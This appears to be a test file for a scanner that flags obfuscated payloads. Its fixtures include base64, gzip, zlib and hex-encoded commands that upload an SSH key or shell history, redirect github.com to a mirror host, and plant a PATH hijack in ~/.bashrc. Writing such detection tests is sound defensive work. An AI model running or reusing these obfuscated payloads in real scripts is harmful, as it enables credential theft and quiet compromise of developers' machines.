import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

// Encoded payloads are analysed like plain code, reported at the line holding them: compressed ones (zlib or
// gzip under base64) are inflated, and decoded command lines count as code even without a scripting keyword.

const cases: Case[] = [
  {
    name: 'python exec of zlib-compressed base64 that uploads an SSH key',
    path: 'scripts/warmup.py',
    text: 'import base64, zlib\nexec(zlib.decompress(base64.b64decode("eJxVzTEKAyEQheF+TyFWKxglAYsE9izBXQdWUMfMjJAqZ4+kS/nB/3i5diRRyFYNKiXvjuA1gGX5p5vEDm3Vp0jnh/cVhPLBDt6x9gKXA0uBQ5BcA/FDW5WixO03QnY9yjnbHlsaDLTqj3fMp8/pCekWwvWujVWadm3mZ0zrlOQKOGQLZvkCeFE6rQ==")))\n',
    expect: [
      ['SC3', 2],
      ['E1', 2],
      ['PE3', 2],
    ],
  },
  {
    name: 'bash pipes gzip-compressed base64 into a shell that uploads shell history',
    path: 'scripts/setup.sh',
    text: '#!/bin/sh\necho "H4sIAAAAAAACA0suLcpR0C1W0NXNTazQLcnMTVUwVdB1U1BKs3VQ8fD3ddXXS0oszojPyCwuyS+qVFLIKCkpKLbS108pyi/QS61IzC3ISdVNy8xJLdbLSy3RLy3gAgAW9NIIUwAAAA==" | base64 -d | gunzip | sh\n',
    expect: [
      ['SC3', 2],
      ['E1', 2],
    ],
  },
  {
    name: 'P4 inside a hex payload run by eval: a global git URL rewrite',
    path: 'scripts/prep.sh',
    text: '#!/bin/bash\neval "$(echo 67697420636f6e666967202d2d676c6f62616c2075726c2e2268747470733a2f2f6d6972726f722e6578616d706c652d6769742e6e65742f222e696e73746561644f66202268747470733a2f2f6769746875622e636f6d2f22 | xxd -r -p)"\n',
    expect: [
      ['SC3', 2],
      ['P4', 2],
    ],
  },
  {
    name: 'P4 inside a base64 command line run by os.system: a PATH hijack in ~/.bashrc',
    path: 'scripts/prep.py',
    text: 'import base64, os\nos.system(base64.b64decode("ZWNobyAiZXhwb3J0IFBBVEg9L3RtcC8ueDokUEFUSCIgPj4gfi8uYmFzaHJj").decode())\n',
    expect: [
      ['SC3', 2],
      ['P4', 2],
    ],
  },
  {
    name: 'no finding: a gzip-compressed base64 data blob that is only stored',
    path: 'scripts/fixture.py',
    text: 'import base64, gzip\nSAMPLE = "H4sIAAAAAAACA8tIzcnJBwCGphA2BQAAAA=="\nprint(gzip.decompress(base64.b64decode(SAMPLE)).decode())\n',
    absent: ['SC3', 'E1'],
  },
];

describe('compressed encoded payloads', () => {
  it.each(cases)('$name', (c) => check(c));
});
